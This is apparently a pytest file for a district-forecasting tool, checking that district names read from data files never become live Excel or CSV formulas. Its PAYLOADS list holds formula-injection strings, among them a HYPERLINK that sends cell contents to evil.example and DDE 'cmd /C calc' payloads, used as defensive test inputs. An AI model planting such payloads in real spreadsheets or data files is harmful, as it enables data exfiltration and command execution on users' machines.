"""Formula injection (issue 9 item 4): no name from a data file becomes a live cell in Excel."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from cdsanalysis.cli import main
from cdsanalysis.data.dataset import load_dataset
from cdsanalysis.data.formulas import csv_safe, csv_safe_frame, set_cell, starts_like_formula
from cdsanalysis.model.projection import forecast
from cdsanalysis.report.run.outcomes import DistrictOutcome
from cdsanalysis.report.run.outputs import summary_table, write_summaries
from tests.builders import small_tables, write_tables
from tests.spreadsheets import live_formula_cells, live_formula_fields

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_recognised_and_prefixed_for_csv(text):
    assert starts_like_formula(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Huyện Hoằng Hóa", "— ", "", "a=b", 5, -3.5, None])
def test_other_values_are_left_alone(value):
    assert not starts_like_formula(value)
    assert csv_safe(value) == value


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"name": ["=1+1", "An Bình"], "ratio": [-0.25, 1.0], "=header": ["-x", "y"]})
    safe = csv_safe_frame(frame)
    assert safe["name"].tolist() == ["'=1+1", "An Bình"] and safe["'=header"].tolist() == ["'-x", "y"]
    assert safe["ratio"].tolist() == [-0.25, 1.0] and safe["ratio"].dtype == float
    assert frame["name"].tolist() == ["=1+1", "An Bình"]  # the input is not modified


def test_a_cell_written_by_set_cell_is_text_not_formula(tmp_path):
    book = Workbook()
    for row, text in enumerate(PAYLOADS, start=1):
        set_cell(book.active, row, 1, text)
    set_cell(book.active, 1, 2, -3)
    set_cell(book.active, 2, 2, "\x1b[31mKernelError\x1b[0m: x\x0b")  # a kernel's colours, a control char
    book.save(tmp_path / "b.xlsx")
    with zipfile.ZipFile(tmp_path / "b.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(tmp_path / "b.xlsx").active
    assert [sheet.cell(row=r, column=1).value for r in range(1, 5)] == PAYLOADS[:4]  # what the reader sees: the name
    assert all(sheet.cell(row=r, column=1).quotePrefix for r in range(1, 5))
    assert sheet["B1"].value == -3 and sheet["B1"].data_type == "n"
    assert sheet["B2"].value == "KernelError: x\ufffd"
    assert live_formula_cells(tmp_path / "b.xlsx") == []


def test_the_scanner_finds_a_live_formula(tmp_path):
    """Guard the guard: what openpyxl writes from a raw "=..." string is caught."""
    book = Workbook()
    book.active["A1"] = "=1+1"
    book.active["A2"] = "@x"
    book.save(tmp_path / "raw.xlsx")
    found = live_formula_cells(tmp_path / "raw.xlsx")
    assert any("formula" in f for f in found) and any("A2" in f for f in found)


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """The small test data with district names that are spreadsheet formulas."""
    tables = small_tables()
    names = {"901": PAYLOADS[0], "902": PAYLOADS[1], "903": PAYLOADS[3]}
    tables["units"]["district_name"] = tables["units"]["district_code"].map(names)
    return write_tables(tmp_path_factory.mktemp("hostile") / "data", tables)


def test_forecast_out_xlsx_and_csv_hold_no_live_formula(hostile_data, tmp_path, capsys):
    for name in ("f.xlsx", "f.csv"):
        assert main(["forecast", "--data", str(hostile_data), "--draws", "50", "--out", str(tmp_path / name)]) == 0
    assert live_formula_cells(tmp_path / "f.xlsx") == []
    assert live_formula_fields(tmp_path / "f.csv") == []
    sheet = load_workbook(tmp_path / "f.xlsx").worksheets[0]
    assert PAYLOADS[0] in [c.value for c in sheet["B"]]  # the name is there, as text
    assert "'" + PAYLOADS[1] in (tmp_path / "f.csv").read_text(encoding="utf-8-sig")


def test_render_summaries_hold_no_live_formula(hostile_data, tmp_path):
    """The files `render` writes after the notebooks (summary.xlsx and summary.csv), on the same table."""
    result = forecast(load_dataset(hostile_data), draws=50, seed=0)
    codes = ["901", "902", "903"]
    outcomes = {c: DistrictOutcome(c, n, f"{c}-x", ok=c != "903", error="" if c != "903" else "-1 boom")
                for c, n in zip(codes, (PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]), strict=False)}
    table = summary_table(result, codes, outcomes)
    write_summaries(tmp_path, table, list(outcomes.values()), result.dataset, result.as_of, "vi")
    for path in sorted(tmp_path.glob("*.xlsx")):
        assert live_formula_cells(path) == [], path.name
    assert live_formula_fields(tmp_path / "summary.csv") == []


def test_the_district_form_holds_no_live_formula_from_the_names(hostile_data, tmp_path):
    """`cdsanalysis template` writes the units' names into the form; only its own totals are formulas."""
    path = tmp_path / "form.xlsx"
    assert main(["template", "--data", str(hostile_data), "--out", str(path), "--as-of", "31/01/2024"]) == 0
    assert live_formula_cells(path, allowed_formula=r"=SUM\([CD]\d+:[CD]\d+\)") == []
    names = [c.value for c in load_workbook(path).active["B"]]
    assert PAYLOADS[0] in names and PAYLOADS[1] in names  # the names themselves, shown as written
